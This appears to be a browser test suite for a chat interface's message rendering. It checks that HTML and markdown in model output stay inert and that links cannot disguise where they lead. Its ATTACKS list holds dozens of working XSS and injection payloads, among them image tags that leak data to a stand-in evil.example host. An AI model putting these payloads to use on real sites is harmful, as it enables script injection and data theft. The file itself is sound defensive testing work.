// A model's output is text: its HTML does not become markup, no script runs, and no other host gets a request.
import { assert, chat, person, test, url } from "./site.mjs";

const ATTACKS = [
  "<script>window.pwned = 1</script>",
  "<img src=x onerror='window.pwned = 1'>",
  "<img src=https://evil.example/a.png>",
  "![leak](https://evil.example/a.png?q=secret)",
  "![leak](//evil.example/a.png)",
  "![x](data:image/svg+xml,%3Csvg onload=window.pwned=1%3E)",
  "![x][r]\n\n[r]: https://evil.example/ref.png",
  "<svg onload='window.pwned = 1'></svg>",
  "<svg><script>window.pwned = 1</script></svg>",
  "<svg><use href='https://evil.example/a.svg#x'/></svg>",
  "<math><mi xlink:href='javascript:window.pwned=1'>x</mi></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
  "<iframe src='javascript:window.pwned=1'></iframe>",
  "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
  "<object data='https://evil.example/'></object>",
  "<embed src='https://evil.example/'>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "<style>@import 'https://evil.example/a.css'; body { display: none }</style>",
  "<base href='https://evil.example/'>",
  "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
  "<form action=https://evil.example/><input name=q><button>Go</button></form>",
  "<input autofocus onfocus='window.pwned = 1'>",
  "<body onload='window.pwned = 1'>",
  "<details open ontoggle='window.pwned = 1'><summary>x</summary></details>",
  "<video src=https://evil.example/a.mp4 onerror='window.pwned = 1'></video>",
  "<audio src=x onerror='window.pwned = 1'>",
  "<video poster=https://evil.example/p.png></video>",
  "<picture><source srcset=https://evil.example/s.png><img></picture>",
  "<a href='javascript:window.pwned=1'>x</a>",
  "[x](javascript:window.pwned=1)",
  "[x](JaVaScRiPt:window.pwned=1)",
  "[x](java\tscript:window.pwned=1)",
  "[x](&#106;avascript:window.pwned=1)",
  "[x](javascript&colon;window.pwned=1)",
  "[x](vbscript:window.pwned=1)",
  "[x](data:text/html,<script>window.pwned=1</script>)",
  "[x](blob:https://evil.example/1)",
  "[x](file:///etc/passwd)",
  "<javascript:window.pwned=1>",
  "[x](https://evil.example/ \"onmouseover='window.pwned=1'\")",
  "[x](https://evil.example/\"onmouseover=window.pwned=1)",
  "`<script>window.pwned = 1</script>`",
  "```\n<script>window.pwned = 1</script>\n```",
  "```html\n<img src=x onerror=window.pwned=1>\n```",
  "```\"onmouseover=\"window.pwned=1\ncode\n```",
  "```<img src=x onerror=window.pwned=1>\ncode\n```",
  "| a | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | x |",
  "- <img src=x onerror=window.pwned=1>\n- [ ] <script>window.pwned=1</script>",
  "> <script>window.pwned = 1</script>",
  "# <img src=x onerror=window.pwned=1>",
  "**<img src=x onerror=window.pwned=1>**",
  "<div style='position:fixed;inset:0;background:url(https://evil.example/b.png)'>x</div>",
  "<p class='banner lost' id='composer'>x</p>",
  "<img name=body><img id=settings>",
  "<template><script>window.pwned = 1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
  "<!--<img src='--><img src=x onerror=window.pwned=1>'>",
  "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.pwned = 1</x:script>",
  "<select><noembed></select><script>window.pwned = 1</script></noembed>",
  "<table background='https://evil.example/t.png'><tr><td>x</table>",
  "<a href='https://evil.example/' ping='https://evil.example/ping'>x</a>",
  "&lt;img src=x onerror=window.pwned=1&gt;",
  "\u202e<img src=x onerror=window.pwned=1>",
];

/** Elements that a message may contain. */
const ALLOWED = "p,br,hr,h3,h4,h5,h6,ul,ol,li,blockquote,pre,code,em,strong,del,a,table,thead,tbody,tr,th,td,div,span,button,svg,use".split(",");

const inspect = (page) => page.tab.evaluate((allowed) => {
  const found = [];
  for (const element of document.querySelectorAll(".md *, .bubble *, .card-b *")) {
    if (!allowed.includes(element.localName)) found.push(element.outerHTML.slice(0, 200));
    for (const { name, value } of element.attributes) {
      if (/^on|^style$|^src|^srcset$|^id$/.test(name)) found.push(`${name}=${value}`);
      if (name === "href" && !/^(https?:|mailto:|#i-)/.test(value)) found.push(`${name}=${value}`);
    }
  }
  if (window.pwned !== undefined) found.push("A script ran.");
  return found;
}, ALLOWED);

test(`${ATTACKS.length} attacks are inert, while they stream and afterwards`, async () => {
  const page = await chat(await person(), { assistant: "echo" });
  for (let place = 0; place < ATTACKS.length; place += 8) {
    await page.ask(ATTACKS.slice(place, place + 8).join("\n\nand\n\n"));
    assert.deepEqual(await inspect(page), []);
  }
  await page.tab.reload();
  await page.has(".md", "and");
  await page.tab.waitForFunction((count) => document.querySelectorAll(".answer").length === count, Math.ceil(ATTACKS.length / 8));
  assert.deepEqual(await inspect(page), []);
  await page.done();
});

test("in tools' arguments, questions and titles they are inert too", async () => {
  const page = await chat(await person(), { assistant: "asking" });
  const attack = "<img/src=x/onerror=window.pwned=1>";
  await page.send(JSON.stringify({ action_requests: [{ name: attack, args: { [attack]: attack }, description: attack }], review_configs: [] }));
  await page.has(".q");
  await page.tab.reload();
  await page.has(".q");
  assert.equal(await page.tab.locator(".q img, .threads img, .head img").count(), 0);
  assert.equal(await page.tab.evaluate(() => window.pwned), undefined);
  await page.done();
});

test("markdown is shown as such, and links say where they lead", async () => {
  const page = await chat(await person(), { assistant: "echo" });
  await page.ask("# Title\n\nA **bold** [word](https://example.com/x) and <https://example.org/>.\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n1. one\n2. two\n\n```python\ndef f():\n    return 1\n```\n\n- [x] done");
  const { md } = { md: page.tab.locator(".md") };
  await md.locator(".hljs-keyword").first().waitFor();
  assert.equal(await md.locator("h3").innerText(), "Title");
  assert.match(await md.innerText(), /word \(example\.com\) and https:\/\/example\.org\//);
  assert.deepEqual(await md.locator("td").allInnerTexts(), ["1", "2"]);
  assert.equal(await md.locator("a").first().getAttribute("rel"), "noopener noreferrer nofollow");
  assert.match(await md.innerText(), /☑ done/);
  await page.tab.context().grantPermissions(["clipboard-read", "clipboard-write"]);
  await page.button("Copy the code").click();
  assert.equal(await page.tab.evaluate(() => navigator.clipboard.readText()), "def f():\n    return 1");
  await page.done();
});

test("a link cannot pretend to lead elsewhere", async () => {
  const page = await chat(await person(), { assistant: "echo" });
  await page.ask([
    "[https://bank.example/?r=evil.test](https://evil.test)", "[https://x.com](https://x.co)", "[x.com@evil.test](https://evil.test)", "https://plain.example/a",
    "[a file](docs/a.md)", "[a place](#top)", "[another](//evil.test)", "[script](javascript:alert(1))",
  ].join("\n\n"));
  const lines = (await page.tab.locator(".md p").allInnerTexts()).map((each) => each.trim());
  assert.deepEqual(lines, [
    "https://bank.example/?r=evil.test (evil.test)", "https://x.com (x.co)", "x.com@evil.test (evil.test)", "https://plain.example/a",
    "a file", "a place", "another", "script",
  ]);
  assert.equal(await page.tab.locator(".md a").count(), 4);
  await page.done();
});

const DOT = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

test("a picture that a tool answers is shown", async () => {
  const messages = [
    { type: "human", content: "Look" },
    { type: "ai", content: "", tool_calls: [{ name: "look", args: {}, id: "c1" }] },
    { type: "tool", tool_call_id: "c1", name: "look", content: [{ type: "image_url", image_url: { url: `data:image/png;base64,${DOT}` } }] },
    { type: "ai", content: "A dot." },
  ];
  const made = await fetch(`${url}/threads`, { method: "POST", body: JSON.stringify({ metadata: { graph_id: "obeying" }, supersteps: [{ updates: [{ values: { messages }, as_node: "talk" }] }] }) });
  const page = await chat(await person(), { thread: (await made.json()).thread_id });
  await page.tab.locator("details.card summary", { hasText: "look" }).click();
  await page.has(".card-b", "Result");
  await page.has(".card-b img.picture");
  await page.done();
});

test("a thought is folded, and says how long it took", async () => {
  const page = await chat(await person(), { assistant: "echo" });
  await page.ask(`thinking: ${"about it for a while ".repeat(12)}\nThe answer.`);
  await page.tab.getByText(/^Thought for/).click();
  await page.has(".thought", "about it for a while");
  assert.deepEqual((await page.texts()).map((text) => text.trim()), ["The answer."]);
});
